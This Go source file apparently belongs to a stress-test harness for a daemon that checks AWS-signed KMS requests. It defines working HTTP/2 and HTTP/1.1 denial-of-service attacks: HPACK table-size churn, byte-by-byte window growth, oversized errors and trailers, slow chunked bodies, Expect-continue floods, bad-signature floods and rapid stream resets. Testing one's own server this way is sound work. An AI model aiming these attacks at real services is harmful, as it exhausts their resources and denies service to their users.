package main

import (
	"bytes"
	"fmt"
	"strings"
	"time"

	"golang.org/x/net/http2"
)

// awsAttacks are further attacks on the AWS edge: on the state of a connection, on caches and on errors.
var awsAttacks = []attack{
	{name: "aws-table-sizes", connections: 64, dial: toAWS, deaf: true,
		what: "unsigned: changes of SETTINGS_HEADER_TABLE_SIZE, all the time",
		act:  func(_ *world, p *peer) error { return p.changeTableSizes() }},
	{name: "aws-windows", connections: 64, dial: toAWS, deaf: true, long: true,
		what: "as aws-large-untaken; then the window of all streams grows by one byte at a time",
		act: func(w *world, p *peer) error {
			if err := untakenAWS(w, p, w.LongKey, 128); err != nil {
				return err
			}
			return p.raiseWindows()
		}},
	{name: "aws-errors", connections: 300, dial: toAWS, long: true,
		what: "authenticated; then 127 requests on each connection for an error of 16 kB, without a window for the answers",
		act: func(w *world, p *peer) error {
			if err := authenticate(w, p, 0); err != nil {
				return err
			}
			pseudo := append([]byte{0x83, 0x86, 0x84, 0x01, 9}, "localhost"...)
			// The error quotes the value twice, and JSON escapes it.
			value := "AWS4-HMAC-SHA256 " + strings.Repeat(`"`, 3983)
			// The table has 4096 bytes again (RFC 7541, section 6.3). authorization, entry 23, with a value of
			// 4000 bytes becomes entry 62.
			first := append([]byte{0x3f, 0xe1, 0x1f}, pseudo...)
			first = append(append(first, 0x40|23, 0x7f, 0xa1, 0x1e), value...)
			next := append(bytes.Clone(pseudo), 0x80|62)
			for i, stream := range streams(128)[1:] {
				if i == 0 {
					p.headers(stream, true, first)
				} else {
					p.headers(stream, true, next)
				}
			}
			return p.flush()
		}},
	{name: "aws-trailers", connections: 150, dial: toAWS, long: true,
		what: "authenticated; then 127 requests on each connection with a trailer field of 15 kB, " +
			"without a window for the answers",
		act: func(w *world, p *peer) error {
			if err := authenticate(w, p, 0); err != nil {
				return err
			}
			head := block(plain()...)
			trailers := block([2]string{"x-filler", strings.Repeat("~", 14_900)})
			for _, stream := range streams(128)[1:] {
				p.headers(stream, false, head)
				_ = p.framer.WriteData(stream, false, []byte("{}"))
				p.headers(stream, true, trailers)
			}
			return p.flush()
		}},
	{name: "aws-chunks", connections: 100, dial: toAWS, deaf: true, long: true,
		what: "HTTP/1.1, authenticated; then a body of chunks of one byte, each with an extension, without its end",
		act: func(w *world, p *peer) error {
			go p.finish()
			p.out.Write(w.greedyMac().http1())
			p.out.WriteString("POST / HTTP/1.1\r\nhost: a\r\ntransfer-encoding: chunked\r\n\r\n")
			chunk := "1;x=" + strings.Repeat("y", 100) + "\r\nz\r\n"
			return p.pump([]byte(strings.Repeat(chunk, 1000)), 20)
		}},
	{name: "aws-expect", connections: 4000, dial: toAWS, long: true,
		what: "HTTP/1.1, authenticated; then Expect: 100-continue on each connection, without the body",
		act: func(w *world, p *peer) error {
			p.out.Write(w.greedyMac().http1())
			p.out.WriteString("POST / HTTP/1.1\r\nhost: a\r\nexpect: 100-continue\r\ncontent-length: 260000\r\n\r\n")
			return p.flush()
		}},
	{name: "aws-scopes", connections: 64, dial: toAWS, deaf: true, long: true,
		what: "authenticated; then signatures of unknown access keys, for other regions and other days, all the time",
		act: func(w *world, p *peer) error {
			go p.finish()
			p.out.Write(w.greedyMac().http1())
			for i := 0; !p.over(); i++ {
				p.out.Write(w.scoped(i))
				if i%16 == 15 {
					if err := p.flush(); err != nil {
						return err
					}
				}
			}
			return nil
		}},
	{name: "aws-resets", connections: 500, dial: toAWS, long: true,
		what: "authenticated; then 390 signed requests on each connection, each reset at once",
		act: func(w *world, p *peer) error {
			if err := authenticate(w, p, 1<<30); err != nil {
				return err
			}
			s := w.greedyMac()
			fields := block(s.http2Fields()...)
			for _, stream := range streams(391)[1:] {
				p.request(stream, fields, []byte(s.body))
				_ = p.framer.WriteRSTStream(stream, http2.ErrCodeCancel)
			}
			return p.flush()
		}},
}

// authenticate starts HTTP/2 with a signed request, on stream 1.
func authenticate(w *world, p *peer, window uint32) error {
	p.preface(window)
	s := w.greedyMac()
	p.request(1, block(s.http2Fields()...), []byte(s.body))
	if err := p.flush(); err != nil {
		return err
	}
	time.Sleep(200 * time.Millisecond) // Until the daemon has verified the signature.
	return nil
}

// scoped returns a request of HTTP/1.1 with a wrong signature: of an unknown access key, for another region,
// for another day, or of the greedy caller.
func (w *world) scoped(i int) []byte {
	id, region, now := w.GreedyID, w.Region, time.Now().UTC()
	switch i % 4 {
	case 0:
		id = fmt.Sprintf("AKIA%016d", i)
	case 1:
		region = fmt.Sprintf("region-%d", i)
	case 2:
		now = now.AddDate(0, 0, 1+i%1000)
	}
	return fmt.Appendf(nil, "POST / HTTP/1.1\r\nhost: %s\r\nx-amz-date: %s\r\nx-amz-target: TrentService.GenerateMac\r\n"+
		"authorization: AWS4-HMAC-SHA256 Credential=%s/%s/%s/kms/aws4_request, "+
		"SignedHeaders=host;x-amz-date;x-amz-target, Signature=%s\r\ncontent-length: 2\r\n\r\n{}",
		w.AWS, now.Format("20060102T150405Z"), id, now.Format("20060102"), region, strings.Repeat("0", 64))
}

// changeTableSizes changes the size of the daemon's HPACK table (RFC 7541, section 4.2) until the attack
// ends. The daemon has to tell the client of the changes in its next header block.
func (p *peer) changeTableSizes() error {
	go p.finish()
	p.preface(1 << 30)
	var b bytes.Buffer
	framer := http2.NewFramer(&b, nil)
	for i := range uint32(1000) {
		_ = framer.WriteSettings(http2.Setting{ID: http2.SettingHeaderTableSize, Val: 2048 + 2048*(i%2)})
	}
	for !p.over() {
		p.out.Write(b.Bytes())
		if err := p.flush(); err != nil {
			return err
		}
	}
	return nil
}

// raiseWindows raises the initial window of all streams by one byte at a time. The daemon can send one byte
// of each answer at a time.
func (p *peer) raiseWindows() error {
	go p.finish()
	_ = p.framer.WriteWindowUpdate(0, 1<<30)
	for size := uint32(1); size <= 20_000 && !p.over(); size++ {
		_ = p.framer.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: size})
		if size%100 == 0 {
			if err := p.flush(); err != nil {
				return err
			}
		}
	}
	return nil
}
